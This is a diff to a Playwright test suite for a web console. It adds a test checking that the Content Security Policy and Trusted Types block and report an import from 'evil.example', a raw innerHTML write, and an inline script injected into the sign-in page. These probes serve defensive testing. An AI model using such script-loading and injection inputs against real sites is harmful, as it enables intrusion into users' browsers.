@@ -1,10 +1,11 @@
-import { type Browser, chromium, type Page } from 'playwright-core';
+import type { Browser, Page } from 'playwright-core';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { PERMISSIONS } from '../../../src/domain/permissions.ts';
+import { launchBrowser } from '../../support/browser.ts';
 import { becomesLive, type ConsolePage, expectNoAxeViolations, openConsole } from '../../support/console-page.ts';
 import { consoleViews, expectWellMade, goTo, LOOKS, settles } from '../../support/console-views.ts';
 import { CONSOLE_WORLD, type ConsoleWorld, openConsoleWorld, SCRIPT } from '../../support/console-world.ts';
-import { pathOf, skipReason, titled } from '../../support/required-tools.ts';
+import { skipReason, titled } from '../../support/required-tools.ts';
 
 const missing = skipReason('chromium');
 /** What the browser says of requests that fail while the network is away. */
@@ -24,10 +25,7 @@ describe.skipIf(missing)(titled('every view of the console', missing), () => {
   const lists = () => views().filter(({ isList = true }) => isList);
 
   beforeAll(async () => {
-    [world, browser] = await Promise.all([
-      openConsoleWorld(),
-      chromium.launch({ executablePath: pathOf('chromium') ?? '' }),
-    ]);
+    [world, browser] = await Promise.all([openConsoleWorld(), launchBrowser()]);
   });
   afterAll(async () => {
     await browser?.close();
@@ -131,17 +129,13 @@ describe.skipIf(missing)(titled('every view of the console', missing), () => {
     await close();
   });
 
-  it('would notice a secret in an answer, and whatever the policy refuses', async () => {
+  it('would notice a secret in an answer', async () => {
     const { page, complaints, close } = await open('ada');
     const token = JSON.stringify(world.pipelineToken());
     await page.evaluate(`fetch('/graphql', { method: 'POST', headers: { 'content-type': 'application/json', authorization: 'Bearer ' + ${token} },
       body: JSON.stringify({ query: ${JSON.stringify(CONSOLE_WORLD.ask)} }) }).then((answer) => answer.text()).then(() => undefined)`);
     await expect.poll(() => complaints.some((one) => one.startsWith('a secret in the answer of'))).toBe(true);
-    await page.evaluate(`import('https://evil.example/a.js').catch(() => undefined)`);
-    await expect.poll(() => complaints.some((one) => one.startsWith('policy: script-src'))).toBe(true);
-    await expect(page.evaluate('document.body.innerHTML = "<b>"')).rejects.toThrow(/TrustedHTML/);
-    await expect.poll(() => complaints.some((one) => one.startsWith('policy: require-trusted-types-for'))).toBe(true);
-    await close(/^a secret in the answer of|^policy: |Content Security Policy|TrustedHTML/);
+    await close(/^a secret in the answer of/);
   });
 
   it.each([
@@ -159,7 +153,7 @@ describe.skipIf(missing)(titled('every view of the console', missing), () => {
         if (forbidden.has(permission)) continue;
         forbidden.add(permission);
       }
-      await expectNoAxeViolations(page, path);
+      await expectWellMade(page, path, BRIEF_LOOKS);
       const main = page.locator('main');
       const offered = main.getByRole('button', { name: CHANGES }).or(main.getByRole('link', { name: CHANGES }));
       expect(await offered.allInnerTexts(), `${path} offers`).toEqual([]);
@@ -220,5 +214,25 @@ describe.skipIf(missing)(titled('every view of the console', missing), () => {
     await settles(page);
     expect(await page.evaluate('window.isSamePage')).toBe(true);
     await close(OUTAGE);
+  });
+
+  it('has broken no rule of the policy by now, and each that is broken is reported', async () => {
+    const { policyReports } = world;
+    const directives = () => policyReports.map((report) => report['effective-directive']);
+    expect(policyReports).toEqual([]);
+    const { page, complaints, close } = await open('ada');
+    await page.evaluate(`import('https://evil.example/a.js').catch(() => undefined)`);
+    await expect(page.evaluate('document.body.innerHTML = "<b>"')).rejects.toThrow(/TrustedHTML/);
+    await expect.poll(directives).toEqual(['script-src-elem', 'require-trusted-types-for']);
+    await page.route('**/sign-in', async (route) => {
+      const response = await route.fetch();
+      const body = (await response.text()).replace('</head>', '<script>window.hasRun = 1</script></head>');
+      await route.fulfill({ response, body });
+    });
+    await page.goto('/sign-in');
+    await expect.poll(() => policyReports.at(-1)).toMatchObject({ 'blocked-uri': 'inline' });
+    expect(await hasRun(page)).toBe(false);
+    expect(complaints.filter((one) => one.startsWith('policy: '))).toHaveLength(3);
+    await close(/^policy: |Content Security Policy|TrustedHTML|evil\.example/);
   });
 });
